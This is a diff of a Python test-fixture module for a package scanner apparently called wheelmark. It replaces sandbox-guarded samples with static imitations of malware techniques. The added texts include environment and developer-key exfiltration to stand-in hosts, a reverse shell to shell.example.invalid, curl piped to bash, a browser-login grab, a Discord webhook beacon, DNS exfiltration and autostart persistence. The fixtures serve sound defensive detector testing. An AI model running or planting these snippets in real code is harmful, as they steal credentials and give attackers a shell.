@@ -1,85 +1,237 @@
-"""Distributions that behave badly when they run, for the tests of the dynamic look. Written by us; harmless everywhere.
+"""Imitations of the typical techniques of malware: written by us, harmless, read by the scanner and never run.
 
-Nothing here would do damage if the sandbox failed: addresses are those of documentation (RFC 5737), files that are read
-or written are the sandbox's made-up ones (`guarded` ends the code anywhere else), loops and floods end by themselves.
+Hosts lie below `.invalid`, which never resolves; commands would print a word; what is encoded prints one, too.
+Each is a program text that does its thing when it is executed, wherever it is put.
 """
 
 from __future__ import annotations
 
-from wheelmark.scan import Sample
+import base64
+import textwrap
+import zlib
+from dataclasses import dataclass
 
-_GUARD = """import os, sys
-if os.path.expanduser("~") != "/home/dev" or os.path.exists("/root"):
-    sys.exit("not in the sandbox")
-"""
-_SETUP = "from setuptools import setup\nsetup(name='widget', version='1', py_modules=['widget'])\n"
-
-
-def guarded(source: str) -> str:
-    """Code that does nothing outside of the sandbox."""
-    return _GUARD + source
+_PRINTS = b"print('imitation')"
+# A token of Fernet for `print('imitation')` under the key beside it, made once: the cipher text differs every time.
+_FERNET_KEY = "aW1pdGF0aW9uLWltaXRhdGlvbi1pbWl0YXRpb24hISE="
 
 
-def at_import(source: str) -> Sample:
-    """A wheel that does this when imported."""
-    return Sample.wheel({"widget/__init__.py": guarded(source), "widget/part.py": "VALUE = 1\n"})
+@dataclass(frozen=True, slots=True)
+class Imitation:
+    """One technique as a program text."""
+
+    name: str
+    source: str
+    install: bool = False  # its home is `setup.py`, not the body of a package
 
 
-def at_install(source: str) -> Sample:
-    """An sdist that does this when installed."""
-    return Sample.sdist({"setup.py": guarded(source) + _SETUP, "widget.py": "VALUE = 1\n"})
+def _imitation(name: str, source: str, *, install: bool = False) -> Imitation:
+    return Imitation(name, textwrap.dedent(source[1:]), install)
 
 
-def at_startup(line: str) -> Sample:
-    """A wheel that does this whenever the interpreter starts."""
-    return Sample.wheel({"widget/__init__.py": "", "widget.pth": f"import os, sys; {line}\n"})
+IMITATIONS: tuple[Imitation, ...] = (
+    _imitation(
+        "environment sent",
+        """
+        import os
+        import requests
 
+        collected = dict(os.environ)
+        requests.post("https://collect.example.invalid/env", json=collected)
+        """,
+    ),
+    _imitation(
+        "host facts sent",
+        """
+        import getpass
+        import json
+        import platform
+        import socket
+        import urllib.request
 
-CONNECT = "import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect_ex(('192.0.2.1', 443))\ns.close()\n"
-LOOK_UP = "import socket\ntry:\n    socket.getaddrinfo('collect.example.invalid', 443)\nexcept OSError:\n    pass\n"
-READ_KEY = "key = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"
-READ_RELATIVE = "os.chdir(os.path.expanduser('~'))\nos.chdir('.aws')\nopen('credentials').read()\n"
-SHOW_TOKEN = "import subprocess\nsubprocess.run(['/bin/echo', os.environ['GITHUB_TOKEN']])\n"
-ENCODE_TOKEN = (
-    "import base64\nwith open('/tmp/out', 'wb') as out:\n"
-    "    out.write(base64.b64encode(b'token=' + os.environ['PYPI_TOKEN'].encode()))\n"
-)
-CRONTAB = "try:\n    open('/var/spool/cron/crontabs/dev', 'w')\nexcept OSError:\n    open('/etc/cron.d/widget', 'a')\n"
-PROFILE = "with open(os.path.expanduser('~/.bashrc'), 'a') as profile:\n    profile.write('# widget\\n')\n"
-FORK_MANY = "import subprocess\nfor number in range(60):\n    subprocess.run(['/bin/true'])\n"
-ENDLESS = "import time\nuntil = time.monotonic() + 120\nwhile time.monotonic() < until:\n    pass\n"
-FLOOD = "for number in range(1 << 14):\n    sys.stdout.write('x' * (1 << 16))\n    sys.stdout.flush()\n"
-HOLD_MEMORY = "import time\nheld = bytearray(400 << 20)\ntime.sleep(5)\n"
-KILL_PARENT = "import signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(1)\n"
-WAKE_PARENT = "import signal\nos.kill(os.getppid(), signal.SIGCONT)\n"
-READ_PARENT = """kept_out = []
-for name in ("mem", "environ", "fd"):
-    place = f"/proc/{os.getppid()}/{name}"
-    try:
-        os.listdir(place) if name == "fd" else open(place, "rb").close()
-    except OSError:
-        kept_out.append(name)
-sys.exit("kept out: " + " ".join(kept_out))
-"""
-UNSHARE = "import ctypes\nctypes.CDLL(None).unshare(0x10000000)\n"
-DAEMON = (
-    "import subprocess\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(30)'], "
-    "start_new_session=True, stdout=subprocess.DEVNULL)\n"
-)
-DROP_AND_RUN = (
-    "import subprocess\nwith open('/tmp/run-me', 'w') as script:\n    script.write('#!/bin/sh\\ntrue\\n')\n"
-    "os.chmod('/tmp/run-me', 0o755)\nsubprocess.run(['/tmp/run-me'])\n"
-)
-DELETE_SELF = "os.remove(__file__)\n"
-CURL = "import subprocess\nsubprocess.run('curl -s http://192.0.2.1/x', shell=True)\n"
-LISTEN = "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\n"
-LOOK_AROUND = (
-    "from pathlib import Path\nseen = sorted(each.name for each in Path('/').iterdir())\n"
-    "pids = sorted(each.name for each in Path('/proc').iterdir() if each.name.isdigit())\n"
-    "sys.exit(' '.join([*seen, *pids]))\n"
-)
-FILL_SCRATCH = (
-    "try:\n    for number in range(100):\n        with open(f'/tmp/{number}', 'wb') as out:\n"
-    "            out.write(bytes(4 << 20))\nexcept OSError as error:\n    sys.exit(type(error).__name__)\n"
-    "sys.exit('filled')\n"
+        def beacon():
+            who = {"host": socket.gethostname(), "user": getpass.getuser(), "system": platform.platform()}
+            body = json.dumps(who).encode()
+            urllib.request.urlopen("https://beacon.example.invalid/hello", data=body)
+
+        beacon()
+        """,
+        install=True,
+    ),
+    _imitation(
+        "program fetched and started",
+        """
+        import os
+        import subprocess
+        import requests
+
+        place = os.path.join(os.getenv("TEMP", "."), "helper.exe")
+        answer = requests.get("https://files.example.invalid/helper.exe")
+        with open(place, "wb") as file:
+            file.write(answer.content)
+        subprocess.Popen([place])
+        """,
+    ),
+    _imitation(
+        "encoded code executed",
+        f"""
+        import base64
+
+        text = "{base64.b64encode(_PRINTS).decode()}"
+        exec(base64.b64decode(text))
+        """,
+        install=True,
+    ),
+    _imitation(
+        "compressed code executed",
+        f"""
+        import base64
+        import zlib
+
+        blob = base64.b85decode("{base64.b85encode(zlib.compress(_PRINTS * 3)).decode()}")
+        exec(compile(zlib.decompress(blob).decode(), "<string>", "exec"))
+        """,
+    ),
+    _imitation(
+        "code from character codes",
+        f"""
+        codes = {[each ^ 7 for each in _PRINTS]}
+        exec("".join(chr(code ^ 7) for code in codes))
+        """,
+    ),
+    _imitation(
+        "answer of a server executed",
+        """
+        import requests
+
+        def latest():
+            return requests.get("https://news.example.invalid/today").text
+
+        exec(latest())
+        """,
+    ),
+    _imitation(
+        "deciphered code executed",
+        f"""
+        from cryptography.fernet import Fernet
+
+        key = b"{_FERNET_KEY}"
+        token = b"gAAAAABl-imitation-of-a-token-that-no-key-opens"
+        exec(Fernet(key).decrypt(token))
+        """,
+        install=True,
+    ),
+    _imitation(
+        "shell given away",
+        """
+        import os
+        import pty
+        import socket
+
+        def serve():
+            link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            link.connect(("shell.example.invalid", 4444))
+            for number in (0, 1, 2):
+                os.dup2(link.fileno(), number)
+            pty.spawn("/bin/sh")
+
+        serve()
+        """,
+    ),
+    _imitation(
+        "hidden PowerShell",
+        """
+        import subprocess
+
+        command = "powershell -WindowStyle Hidden -EncodedCommand cAByAGkAbgB0ACAAaABpAA=="
+        subprocess.Popen(command, shell=True)
+        """,
+        install=True,
+    ),
+    _imitation(
+        "script fetched and run by a shell",
+        """
+        import os
+
+        os.system("curl -s https://get.example.invalid/install.sh | bash")
+        """,
+        install=True,
+    ),
+    _imitation(
+        "passwords of a browser sent",
+        """
+        import os
+        import shutil
+        import sqlite3
+        import requests
+
+        profile = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google\\\\Chrome\\\\User Data\\\\Default")
+        shutil.copy(os.path.join(profile, "Login Data"), "copy.db")
+        rows = sqlite3.connect("copy.db").execute("SELECT 1").fetchall()
+        requests.post("https://collect.example.invalid/rows", json=rows)
+        """,
+    ),
+    _imitation(
+        "keys of a developer sent",
+        """
+        import os
+        import requests
+
+        names = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.pypirc"]
+        found = {}
+        for name in names:
+            path = os.path.expanduser(name)
+            if os.path.exists(path):
+                with open(path) as file:
+                    found[name] = file.read()
+        requests.post("https://collect.example.invalid/keys", json=found)
+        """,
+    ),
+    _imitation(
+        "report to a chat channel",
+        """
+        import os
+        import requests
+
+        channel = "https://discord.com/api/webhooks/000000000000000000/imitation-imitation-imitation"
+        message = {"content": "installed by " + os.environ.get("USERNAME", "?")}
+        requests.post(channel, json=message)
+        """,
+    ),
+    _imitation(
+        "names sent by look-ups",
+        """
+        import getpass
+        import socket
+
+        label = socket.gethostname() + "." + getpass.getuser()
+        socket.gethostbyname(label + ".lookup.example.invalid")
+        """,
+        install=True,
+    ),
+    _imitation(
+        "started with every login",
+        """
+        import os
+        import sys
+
+        folder = os.path.expanduser("~/.config/autostart")
+        os.makedirs(folder, exist_ok=True)
+        with open(os.path.join(folder, "widget.desktop"), "w") as file:
+            file.write("[Desktop Entry]\\nExec=" + sys.executable + " -c 'print(1)'\\n")
+        """,
+    ),
+    _imitation(
+        "program text written and started",
+        """
+        import os
+        import tempfile
+
+        file = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
+        file.write(b"from urllib.request import urlopen as u;exec(u('https://stage.example.invalid').read())")
+        file.close()
+        os.system("start pythonw " + file.name)
+        """,
+        install=True,
+    ),
 )
